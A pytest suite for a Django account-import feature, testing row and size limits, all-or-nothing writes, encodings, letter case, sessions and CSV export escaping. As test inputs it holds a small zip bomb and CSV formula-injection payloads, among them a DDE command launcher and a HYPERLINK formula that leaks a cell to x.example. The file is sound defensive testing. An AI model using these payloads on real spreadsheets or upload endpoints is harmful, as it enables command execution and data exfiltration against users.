"""Account import against hostile and odd files: bounded reading, all-or-nothing writes, encodings,
control characters, letter case; sessions and exports that stay safe."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from accounts import services
from accounts.models import User
from accounts.services.imports import _looks_misdecoded
from helpdesk.core.spreadsheet import csv_safe
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
IMPORT_URL = "/api/v1/accounts/import/"


def api_import(actor: User, name: str, content: bytes):
    client = APIClient()
    client.force_authenticate(user=actor)
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(IMPORT_URL, {"file": upload}, format="multipart")


def raw_xlsx(rows: int, *, cell: str = '<c t="inlineStr"><is><t>x</t></is></c>') -> bytes:
    """An XLSX written by hand (openpyxl would take minutes for a million rows): a header row with
    the three required columns, then ``rows`` rows of one cell each."""
    header = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>account</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
        '<c r="C1" t="inlineStr"><is><t>unit_code</t></is></c></row>'
    )
    body = "".join(f'<row r="{n}">{cell}</row>' for n in range(2, rows + 2))
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{header}{body}</sheetData></worksheet>"
    )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


# --- Bounded reading --------------------------------------------------------------------------------
def test_a_small_xlsx_of_a_hundred_thousand_rows_is_refused_at_the_row_limit(haidian_admin, settings):
    content = raw_xlsx(100_000)
    assert len(content) < 300_000
    response = api_import(haidian_admin, "many.xlsx", content)
    assert response.status_code == 400
    assert response.json()["fields"]["file"] == ["一个文件最多 5000 行。"]


def test_the_row_limit_is_counted_before_anything_is_written(haidian_admin, settings):
    settings.ACCOUNT_IMPORT_MAX_ROWS = 3
    rows = "".join(f"ok_{n},姓名,S110108001\n" for n in range(4))
    with pytest.raises(Exception) as exc:
        services.users_import(actor=haidian_admin, filename="a.csv", content=f"account,name,unit_code\n{rows}".encode())
    assert "3" in str(exc.value)
    assert not User.objects.filter(username__startswith="ok_").exists()


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_unread(haidian_admin):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<" + "a" * (60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    response = api_import(haidian_admin, "bomb.xlsx", buffer.getvalue())
    assert response.status_code == 400
    assert "50 MB" in response.json()["fields"]["file"][0]


def test_columns_beyond_the_first_32_are_not_read(haidian_admin, tree):
    content = "account,name,unit_code" + ",x" * 5000 + "\nwide_one,宽表,S110108001" + ",y" * 5000 + "\n"
    response = api_import(haidian_admin, "wide.csv", content.encode())
    assert response.status_code == 200, response.json()
    assert User.objects.filter(username="wide_one").exists()


# --- All or nothing -----------------------------------------------------------------------------------
def test_a_nul_byte_in_a_cell_names_its_line_and_nothing_is_written(haidian_admin, tree):
    content = "account,name,unit_code\nfirst_ok,李四,S110108001\nbad_one,a\x00b,S110108001\nlast_ok,x,S110108001\n"
    content = content.encode()
    response = api_import(haidian_admin, "nul.csv", content)
    assert response.status_code == 400
    fields = response.json()["fields"]
    assert [k for k in fields if k.startswith("line.")] == ["line.3"]
    assert fields["line.3"][0].startswith("姓名：")
    assert not User.objects.filter(username__in=["first_ok", "bad_one", "last_ok"]).exists()


def test_the_portal_shows_the_nul_line_and_writes_nothing(client, haidian_admin, tree):
    client.force_login(haidian_admin)
    content = b"account,name,unit_code\nfirst_ok,x,S110108001\nbad_one,a\x00b,S110108001\n"
    response = client.post(reverse("accounts:manage_import"), {"file": SimpleUploadedFile("nul.csv", content)})
    assert response.status_code == 200
    assert [error.line for error in response.context["result"].errors] == [3]
    assert "未导入任何账号" in response.content.decode()
    assert not User.objects.filter(username__in=["first_ok", "bad_one"]).exists()


def test_an_account_issued_between_check_and_write_fails_the_whole_file(haidian_admin, tree, monkeypatch):
    """A race with another administrator: the unique index refuses, the transaction rolls back."""
    from accounts.services import imports

    real_prepare = imports.account_prepare

    def prepare_then_race(**kwargs):
        issued = real_prepare(**kwargs)
        if kwargs["username"] == "race_two":
            UserFactory(username="RACE_TWO", unit=tree.school_a)
        return issued

    monkeypatch.setattr(imports, "account_prepare", prepare_then_race)
    content = "account,name,unit_code\nrace_one,甲,S110108001\nrace_two,乙,S110108001\n".encode()
    response = api_import(haidian_admin, "race.csv", content)
    assert response.status_code == 400
    assert not User.objects.filter(username__in=["race_one", "race_two"]).exists()


# --- Encodings --------------------------------------------------------------------------------------
ROWS = "account,name,unit_code\nzhang_w,张伟,S110108001\nli_n,李娜,S110108001\nwang_f,王芳,S110108001\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_utf8_and_gb18030_files_import_with_their_chinese_names(haidian_admin, tree, encoding):
    response = api_import(haidian_admin, "a.csv", ROWS.encode(encoding))
    assert response.status_code == 200, response.json()
    assert User.objects.get(username="zhang_w").name == "张伟"


@pytest.mark.parametrize(
    "encoded",
    [
        ROWS.replace("张伟", "張偉").encode("big5"),
        "account,name,unit_code\nzw,陳志明,S110108001\n".encode("big5"),
        "account,name,unit_code\nyamada,山田太郎,S110108001\nsuzuki,鈴木一郎,S110108001\n".encode("shift_jis"),
        "account,name,unit_code\nzw,張偉,S110108001\n".encode("shift_jis"),
    ],
    ids=["big5-names", "big5-short", "shift-jis-names", "shift-jis-short"],
)
def test_big5_and_shift_jis_files_are_refused_not_imported_as_garbage(haidian_admin, tree, encoded):
    response = api_import(haidian_admin, "a.csv", encoded)
    assert response.status_code == 400
    assert "UTF-8" in response.json()["fields"]["file"][0]
    assert User.objects.filter(unit=tree.school_a).count() == 0


def test_rare_name_characters_in_gb18030_are_not_mistaken_for_another_encoding():
    assert not _looks_misdecoded("account,name\nzz,王喆\nyy,李堃\nxx,张伟")
    assert _looks_misdecoded("張偉\n李娜\n陳志明".encode("big5").decode("gb18030"))


# --- Letter case ------------------------------------------------------------------------------------
def test_accounts_differing_only_in_letter_case_are_one_account(haidian_admin, tree, teacher):
    client = APIClient()
    client.force_authenticate(user=haidian_admin)
    response = client.post(
        "/api/v1/accounts/", {"account": "Teacher_ZW", "name": "冒名", "unit": tree.school_a.pk}, format="json"
    )
    assert response.status_code == 400
    assert "account" in response.json()["fields"] or "username" in response.json()["fields"]
    assert User.objects.filter(username__iexact="teacher_zw").count() == 1


def test_the_database_refuses_a_second_letter_case_too(tree, teacher):
    from django.db import IntegrityError, transaction

    with pytest.raises(IntegrityError), transaction.atomic():
        User.objects.create(username="TEACHER_zw", name="冒名")


# --- Sessions end at deactivation -------------------------------------------------------------------
def test_a_session_from_before_deactivation_does_not_come_back_with_reactivation(client, haidian_admin, teacher):
    client.force_login(teacher)
    assert client.get(reverse("accounts:profile")).status_code == 200
    services.user_deactivate(actor=haidian_admin, user=teacher)
    assert client.get(reverse("accounts:profile")).status_code == 302
    services.user_activate(actor=haidian_admin, user=User.objects.get(pk=teacher.pk))
    response = client.get(reverse("accounts:profile"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_sessions_of_accounts_never_deactivated_keep_working(client, teacher):
    client.force_login(teacher)
    assert User.objects.get(pk=teacher.pk).session_generation == 0
    assert client.get(reverse("accounts:profile")).status_code == 200


# --- Exports: formulas stay text --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://x.example/?"&A1,"点我")', '\'=HYPERLINK("http://x.example/?"&A1,"点我")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("张伟", "张伟"),
        (42, 42),
        (-1.5, -1.5),
    ],
)
def test_csv_cells_that_would_run_as_formulas_become_text(value, expected):
    assert csv_safe(value) == expected


def test_row_and_cell_tags_are_counted_across_chunk_boundaries(monkeypatch):
    from accounts.services import imports

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<row>" * 1000 + '<c r="A1">' * 7 + "<x:row r='2'>")
        archive.writestr("xl/sharedStrings.xml", "<row>" * 50)  # not a sheet
    for chunk in (8, 13, 64, 1 << 20):  # the seam holds tags up to 8 bytes long
        monkeypatch.setattr(imports, "_XLSX_SCAN_CHUNK", chunk)
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
            assert imports._xlsx_tag_counts(archive) == (1001, 7)


def test_a_sheet_over_the_bound_is_refused_before_openpyxl_opens_it(haidian_admin, monkeypatch):
    """openpyxl scans a whole sheet to size it when it opens it; the tag count must refuse first."""
    import openpyxl

    def never(*args, **kwargs):
        raise AssertionError("openpyxl opened a sheet over the bound")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    response = api_import(haidian_admin, "many.xlsx", raw_xlsx(20_000))
    assert response.status_code == 400
    assert response.json()["fields"]["file"] == ["一个文件最多 5000 行。"]
